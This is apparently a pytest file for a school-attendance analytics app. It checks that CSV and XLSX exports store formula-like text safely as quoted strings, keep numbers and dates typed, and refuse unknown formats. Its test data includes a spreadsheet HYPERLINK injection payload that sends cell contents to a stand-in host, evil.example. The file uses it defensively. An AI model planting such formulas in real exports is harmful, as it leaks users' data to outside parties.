"""CSV and XLSX exports of insights tables: faithful, typed and never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import pytest
from openpyxl import load_workbook

from attendwise.insights.exports import XLSX_MIME, Table, filename, to_csv, to_xlsx
from tests.insights.analysis_data import build_trust

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _table() -> Table:
    return Table(
        title="Schools: attendance [this term]",
        columns=["School", "Attendance %", "Change", "As of"],
        rows=[
            [HOSTILE, 93.5, -1.25, dt.date(2026, 11, 20)],
            ["+44 Academy", 91, None, dt.date(2026, 11, 20)],
            ["@SUM(A1:A2)", math.nan, 0.5, None],
            ["Hill\tPrimary", 88.0, 2, None],
        ],
        notes=["Groups of fewer than 5 pupils are not shown."],
    )


def test_xlsx_stores_a_hostile_cell_as_text_not_a_formula() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_table())))
    sheet = book.active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == HOSTILE
    assert cell.quotePrefix
    assert sheet["A3"].data_type == "s"
    assert sheet["A3"].value == "+44 Academy"
    assert sheet["A4"].value == "@SUM(A1:A2)"
    assert sheet["A4"].data_type == "s"


def test_xlsx_keeps_numbers_and_dates_typed_and_headings_bold() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == ["School", "Attendance %", "Change", "As of"]
    assert sheet["A1"].font.bold
    assert sheet["B2"].value == 93.5
    assert sheet["C2"].value == -1.25
    assert sheet["D2"].value == dt.datetime(2026, 11, 20)
    assert sheet["B4"].value is None  # a figure that cannot be computed is left empty
    assert sheet["A7"].value == "Groups of fewer than 5 pupils are not shown."
    assert sheet.title == "Schools  attendance  this term"


def test_csv_prefixes_formula_like_text_and_keeps_negative_numbers() -> None:
    raw = to_csv(_table())
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["School", "Attendance %", "Change", "As of"]
    assert rows[1] == ["'" + HOSTILE, "93.5", "-1.25", "2026-11-20"]
    assert rows[2][0] == "'+44 Academy"
    assert rows[3][:2] == ["'@SUM(A1:A2)", ""]
    assert rows[4][0] == "Hill\tPrimary"


def test_a_ragged_row_is_refused_naming_the_row() -> None:
    with pytest.raises(ValueError, match=r"row 2 has 1 values for 2 columns"):
        Table("T", ["a", "b"], [[1, 2], [3]])


def test_download_names_are_plain() -> None:
    assert filename("What works: Stage 2 / letters", "xlsx") == "what-works-stage-2-letters.xlsx"
    assert filename("", "csv") == "table.csv"


def test_a_page_table_downloads_with_a_hostile_school_name_stored_as_text(
    client, login, make_user, db_session, make_trust, make_school
) -> None:
    trust = build_trust(db_session, make_trust, make_school, names=(HOSTILE, "Vale Primary"))
    login(make_user(trust, "trust_leader"))
    response = client.get("/insights/process?period=term&format=xlsx")
    assert response.status_code == 200
    assert response.mimetype == XLSX_MIME
    assert (
        'filename="process-measures-chalk-downs-learning-trust.xlsx"'
        in response.headers["Content-Disposition"]
    )
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    names = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, 5)}
    assert names[HOSTILE].data_type == "s"
    assert "Vale Primary" in names
    as_csv = client.get("/insights/what-works?period=term&format=csv", follow_redirects=True)
    assert as_csv.status_code == 200
    assert as_csv.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Step", "Pupils who had it", "Similar pupils who had not (yet)"]
    process_csv = client.get("/insights/process?period=term&format=csv").data.decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in process_csv


def test_an_unknown_download_format_is_refused_naming_it(
    client, login, make_user, db_session, make_trust, make_school
) -> None:
    trust = build_trust(db_session, make_trust, make_school)
    login(make_user(trust, "trust_leader"))
    response = client.get("/insights/process?format=pdf")
    assert response.status_code == 400
    assert "format: choose csv or xlsx, not &#39;pdf&#39;" in response.get_data(as_text=True)


def test_the_dashboards_tables_download_with_the_figures_shown(
    client, login, make_user, db_session, make_trust, make_school
) -> None:
    trust = build_trust(db_session, make_trust, make_school, names=(HOSTILE, "Vale Primary"))
    login(make_user(trust, "trust_leader"))
    response = client.get("/insights/export?table=schools&period=term&format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["School", "URN", "Phase", "Pupils"]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, max_row=3, values_only=True)}
    hill, vale = rows[HOSTILE], rows["Vale Primary"]
    assert sheet["A2"].data_type == "s"
    assert hill[3] == 30
    assert vale[3] == 24
    # 10 of 30 and 4 of 24 pupils miss one day in four: 91.7% and 95.8%, to one place.
    assert hill[header.index("Attendance (%)")] == pytest.approx(100 - 10 * 25 / 30, abs=0.6)
    assert vale[header.index("Persistent absence (%)")] == pytest.approx(100 * 4 / 24, abs=0.1)
    weeks = client.get("/insights/export?table=weeks&period=term&format=csv")
    lines = list(csv.reader(io.StringIO(weeks.data.decode("utf-8-sig"))))
    assert lines[0][0] == "Week beginning"
    assert lines[1][0] == "2026-08-31"
    groups = client.get("/insights/export?table=groups&period=term&format=csv")
    assert groups.status_code == 200
    refused = client.get("/insights/export?table=pupils&format=csv")
    assert refused.status_code == 400
    assert "table: choose schools, groups, weeks, not &#39;pupils&#39;" in refused.get_data(as_text=True)
